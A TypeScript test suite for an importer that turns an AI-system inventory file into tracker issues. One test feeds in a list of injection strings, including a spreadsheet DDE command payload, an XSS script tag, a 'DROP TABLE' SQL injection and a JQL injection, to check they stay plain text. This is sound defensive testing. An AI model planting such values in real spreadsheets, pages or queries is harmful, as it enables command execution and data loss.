import { importInventory, operate } from '../../cli/operator';
import { type Enrolled, openEnrolled } from '../support/enrolled';

const COLUMNS = [
  'Name',
  'Purpose',
  'Owner',
  'Vendor',
  'Stage',
  'Our part',
  'Personal data',
  'Risks',
  'Impact assessment',
  'Testing',
];
const UNKNOWN = '00000000-0000-4000-8000-000000000000';

const ADF = JSON.stringify({ type: 'doc', version: 1, content: [{ type: 'mention', attrs: { id: 'admin' } }] });

/** Names that would do something if anything interpreted them. */
const NAMES = [
  '=HYPERLINK("http://example.com/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|A0',
  '<img src=x onerror=alert(1)><script>alert(2)</script>',
  '[~accountid:admin] {color:red}h1. *wiki*{color}',
  ADF.slice(0, 200),
  "Robert'); DROP TABLE item; --",
  '\u0024{process.env.HOME} {{7*7}} %s %n',
  'project = AIMS" OR summary ~ "',
  '\u202Egnp.exe \u0000\u0007 \uD83D\uDE00 \uFFFF',
];

describe('what an inventory file may hold', () => {
  let site: Enrolled;
  beforeAll(async () => {
    site = await openEnrolled();
  });
  afterAll(async () => {
    await site.close();
  });

  const row = (line: number, cells: Record<string, string>) => ({
    line,
    cells: { ...Object.fromEntries(COLUMNS.map((column) => [column, ''])), Owner: 'Somebody', ...cells },
  });
  const start = async () => {
    const columns = await columnsOfMapping();
    const { importId } = await site.call<{ importId: string }>('import.start', {
      projectId: site.projectId,
      mapping: 'generic',
      columns,
      asOf: '2026-11-24',
    });
    return importId;
  };
  let known: string[] | null = null;
  /** The columns that the mapping wants, as its refusal names them. */
  async function columnsOfMapping(): Promise<string[]> {
    if (known) return known;
    const payload = { projectId: site.projectId, mapping: 'generic', columns: ['Nothing'], asOf: null };
    const error = await site.call('import.start', payload).catch((thrown: Error) => thrown);
    known = [...(error as Error).message.matchAll(/"([^"]+)"/g)].map(([, column]) => column ?? '');
    return known;
  }

  test('hostile text stays text: it is written as it came, runs nowhere and mentions nobody', async () => {
    const file = {
      mapping: 'generic',
      asOf: '2026-11-24',
      columns: await columnsOfMapping(),
      rows: NAMES.map((name, index) =>
        row(index + 2, { Name: name, Purpose: `${name}\n\n\n\n${name}`, Risks: name, Testing: 'yes' }),
      ),
    };
    const { created, failed } = await importInventory(site.site, operate(site.site), site.projectId, file, file.asOf);
    expect(failed).toEqual([]);
    expect(created).toBe(3 * NAMES.length);
    expect((await site.site.sql('SELECT * FROM item')).length).toBe(created);
    const { body } = await site.rest<{ issues: { fields: Record<string, unknown> }[] }>(
      'POST',
      '/rest/api/3/search/jql',
      {
        jql: `project = ${site.projectId} AND issuetype = "AI system" ORDER BY key`,
        fields: ['*all'],
        maxResults: 100,
      },
    );
    const summaries = body.issues.map((issue) => issue.fields.summary);
    // White space is collapsed and control characters go; everything else arrives unchanged.
    const plain = (text: string) => text.replace(/\s+/g, ' ').trim();
    for (const name of NAMES.slice(0, -1)) expect(summaries).toContain(plain(name));
    expect(summaries).toHaveLength(NAMES.length);
    const types = new Set<string>();
    const collect = (value: unknown): void => {
      if (typeof value !== 'object' || value === null) return;
      if ('type' in value && typeof value.type === 'string' && ('content' in value || 'text' in value))
        types.add(value.type);
      for (const inner of Object.values(value)) collect(inner);
    };
    collect(body.issues.map((issue) => issue.fields[site.fieldId('Intended purpose')]));
    expect([...types].sort()).toEqual(['doc', 'paragraph', 'text']);
  });

  test('cells of 10,000 characters are cut to what a field holds, and nothing fails', async () => {
    const long = 'long '.repeat(2_000);
    const importId = await start();
    const rows = [
      row(2, { Name: long, Purpose: long, Owner: long, Vendor: long, Stage: long, Risks: long, Testing: long }),
    ];
    await site.call('import.stage', { importId, rows });
    const { problems } = await site.call<{ problems: { value: string }[] }>('import.dryRun', { importId });
    expect(problems.length).toBeGreaterThan(0);
    expect(Math.max(...problems.map(({ value }) => value.length))).toBeLessThanOrEqual(200);
    await site.call('import.apply', { importId });
    await site.site.settle({ within: 3_600_000 });
    const progress = await site.call('import.progress', { importId });
    expect(progress).toMatchObject({ state: 'done', created: 2, failed: [] });
  });

  test('a file that does not fit is refused with what is missing, and nothing is staged', async () => {
    const { projectId } = site;
    for (const [payload, code, words] of [
      [
        { projectId, mapping: 'generic', columns: ['Name'], asOf: null },
        'import-mapping-invalid',
        'Missing: "Purpose"',
      ],
      [
        { projectId, mapping: 'no-such-mapping', columns: ['Name'], asOf: null },
        'import-mapping-invalid',
        'no-such-mapping',
      ],
      [{ projectId: '999999', mapping: 'generic', columns: ['Name'], asOf: null }, 'setup-not-started', ''],
    ] as const) {
      const error = await site.call('import.start', payload).catch((thrown: unknown) => thrown);
      expect(error).toMatchObject({ code, remedy: expect.stringMatching(/./) });
      expect((error as Error).message).toContain(words);
    }
  });

  test('an import that is not known, not staging any more or badly shaped is refused', async () => {
    const rows = [row(2, { Name: 'Late' })];
    for (const name of ['import.dryRun', 'import.discard', 'import.apply', 'import.progress'])
      await expect(site.call(name, { importId: UNKNOWN })).rejects.toMatchObject({ code: 'import-unknown' });
    await expect(site.call('import.stage', { importId: UNKNOWN, rows })).rejects.toMatchObject({
      code: 'import-unknown',
    });
    const importId = await start();
    for (const bad of [
      [],
      [{ line: 0, cells: {} }],
      [{ line: 2, cells: { Name: 7 } }],
      [{ line: 2, cells: { Name: 'x'.repeat(100_001) } }],
    ])
      await expect(site.call('import.stage', { importId, rows: bad })).rejects.toMatchObject({ code: 'input-invalid' });
    await site.call('import.stage', { importId, rows });
    await site.call('import.apply', { importId });
    await expect(site.call('import.stage', { importId, rows })).rejects.toMatchObject({ code: 'import-busy' });
    await site.site.settle({ within: 3_600_000 });
    await expect(site.call('import.stage', { importId, rows })).rejects.toMatchObject({ code: 'import-busy' });
  });

  test('staging the same chunk twice makes each issue once', async () => {
    const importId = await start();
    const rows = [row(2, { Name: 'Twice staged' })];
    await site.call('import.stage', { importId, rows });
    await site.call('import.stage', { importId, rows });
    expect(await site.call('import.dryRun', { importId })).toMatchObject({ rows: 1, create: 1 });
  });
});
